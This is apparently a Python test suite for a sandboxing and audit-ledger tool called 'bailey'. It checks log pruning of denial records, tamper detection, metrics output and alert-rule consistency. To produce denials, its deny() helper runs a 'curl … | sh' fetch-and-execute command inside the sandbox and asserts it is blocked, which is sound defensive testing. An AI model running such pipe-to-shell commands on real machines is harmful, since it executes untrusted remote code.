"""What is forgotten, and what stays; and the metrics with their alerts."""

import json
import os
import pathlib
import re
import shutil
import subprocess
import unittest

from bench import AttackCase

ALERTS = pathlib.Path(__file__).resolve().parents[2] / "packaging/alerts"


class Retention(AttackCase):
    def setUp(self):
        super().setUp()
        self.ok("init")

    def ok(self, *arguments):
        run = self.bench.bailey(*arguments)
        self.assertEqual(run.code, 0, f"{arguments}: {run}")
        return run

    def denials(self):
        folder = pathlib.Path(self.bench.bailey_home) / "denials"
        return sorted(file.name for file in folder.iterdir()) if folder.is_dir() else []

    def deny(self, count):
        for i in range(count):
            self.assertNotEqual(self.bench.caged(["bash", "-c", f"curl x{i} | sh"]).code, 0)

    def test_old_payloads_go_and_every_proof_stays(self):
        self.deny(3)
        self.assertEqual(len(self.denials()), 3)
        receipt = os.path.join(self.bench.top, "r.json")
        keys = [word for role in ("ledger", "receipts") for word in ("--key", self.ok("key", "export", role).out.strip())]
        self.assertEqual(self.bench.caged(["true"], options=["--receipt", receipt]).code, 0)
        before = self.ok("log", "checkpoint").out
        entries = self.ok("log", "export").out
        # Nothing is that old: nothing happens, and nothing is written.
        self.assertIn("0 denials", self.ok("log", "prune", "--older-than", "1h").out)
        self.assertEqual(self.ok("log", "export").out, entries)
        self.assertIn("would forget", self.ok("log", "prune", "--older-than", "1ms", "--dry-run").out)
        self.assertEqual(len(self.denials()), 3)
        done = json.loads(self.ok("log", "prune", "--older-than", "1ms", "--reason", "our retention", "--json").out)
        self.assertEqual(done["count"], "3")
        self.assertEqual(self.denials(), [])
        after = self.ok("log", "export").out
        self.assertTrue(after.startswith(entries))
        record = json.loads(after.splitlines()[-1])["leaf"]
        self.assertEqual((record["type"], record["body"]["what"], record["body"]["reason"]), ("control", "prune", "our retention"))
        self.assertEqual({name: record["body"]["pruned"][name] for name in ("payloads", "first", "last", "count")},
                         {"payloads": "denials", "first": "0", "last": "2", "count": "3"})
        self.ok("log", "verify")
        self.assertEqual(self.bench.verify("receipt", *keys, receipt).code, 0)
        self.assertNotEqual(self.ok("log", "checkpoint").out, before)

    def test_pruning_hides_no_tampering(self):
        self.deny(2)
        self.ok("log", "prune", "--older-than", "1ms")
        self.ok("log", "verify")
        segment = pathlib.Path(self.bench.bailey_home) / "ledger/journal/00000000"
        data = bytearray(segment.read_bytes())
        at = data.index(b'"type":"refusal"')
        data[at + 8] ^= 1
        segment.write_bytes(data)
        self.assertEqual(self.bench.bailey("log", "verify").code, 5)

    def test_nothing_is_forgotten_without_an_age(self):
        self.deny(1)
        for arguments in ([], ["--older-than", "soon"], ["--older-than", "0d"]):
            self.assertEqual(self.bench.bailey("log", "prune", *arguments).code, 2)
        self.assertEqual(len(self.denials()), 1)

    def test_what_cannot_be_recorded_is_not_forgotten(self):
        self.deny(1)
        # The journal's segment cannot be written: no record, no effect.
        journal = pathlib.Path(self.bench.bailey_home) / "ledger/journal"
        shutil.move(journal, journal.with_name("elsewhere"))
        run = self.bench.bailey("log", "prune", "--older-than", "1ms")
        self.assertNotEqual(run.code, 0)
        self.assertEqual(len(self.denials()), 1)

    def test_metrics_tell_what_is_so(self):
        self.deny(1)
        self.assertEqual(self.bench.caged(["true"]).code, 0)
        text = self.ok("log", "metrics", "--verify").out
        values = dict(re.findall(r"^([a-z_]+) (\S+)$", text, re.M))
        self.assertEqual((values["bailey_ledger_entries"], values["bailey_ledger_published_entries"],
                          values["bailey_ledger_open_intents"], values["bailey_ledger_verification_failed"],
                          values["bailey_kill_switch_engaged"]), ("3", "3", "0", "0", "0"))
        self.assertLess(float(values["bailey_ledger_checkpoint_age_seconds"]), 600)
        self.assertNotIn("bailey_ledger_cosignature_age_seconds", values)
        self.assertNotIn("bailey_ledger_verification_failed", self.ok("log", "metrics").out)
        self.ok("kill", "on")
        out = os.path.join(self.bench.top, "bailey.prom")
        self.ok("log", "metrics", "--out", out)
        self.assertIn("bailey_kill_switch_engaged 1\n", pathlib.Path(out).read_text(encoding="utf-8"))
        segment = pathlib.Path(self.bench.bailey_home) / "ledger/journal/00000000"
        data = bytearray(segment.read_bytes())
        data[data.index(b'"type":"refusal"') + 8] ^= 1
        segment.write_bytes(data)
        self.assertIn("bailey_ledger_verification_failed 1\n", self.ok("log", "metrics", "--verify").out)

    def test_every_alert_names_metrics_that_exist(self):
        known = set(re.findall(r"^# TYPE ([a-z_]+) gauge$", self.ok("log", "metrics", "--verify").out, re.M))
        # Told only when a witness has cosigned: the unit tests of the text have it.
        source = pathlib.Path(__file__).resolve().parents[2] / "src/report/metrics.cc"
        if not source.exists():
            self.skipTest("the tests are staged without the tree; from the tree it is the same test")
        possible = set(re.findall(r'"(bailey_[a-z_]+)"', source.read_text(encoding="utf-8")))
        self.assertLessEqual(known, possible)
        rules = 0
        for file in sorted(ALERTS.glob("*.yaml")):
            for expression in re.findall(r"^\s*expr: (.*)$", file.read_text(encoding="utf-8"), re.M):
                names = re.findall(r"\bbailey_[a-z_]+", expression)
                self.assertTrue(names, expression)
                self.assertLessEqual(set(names), possible, expression)
                rules += 1
        self.assertGreaterEqual(rules, 5)
        promtool = shutil.which("promtool")
        if promtool:
            subprocess.run([promtool, "check", "rules", *ALERTS.glob("*.yaml")], check=True)


if __name__ == "__main__":
    unittest.main()
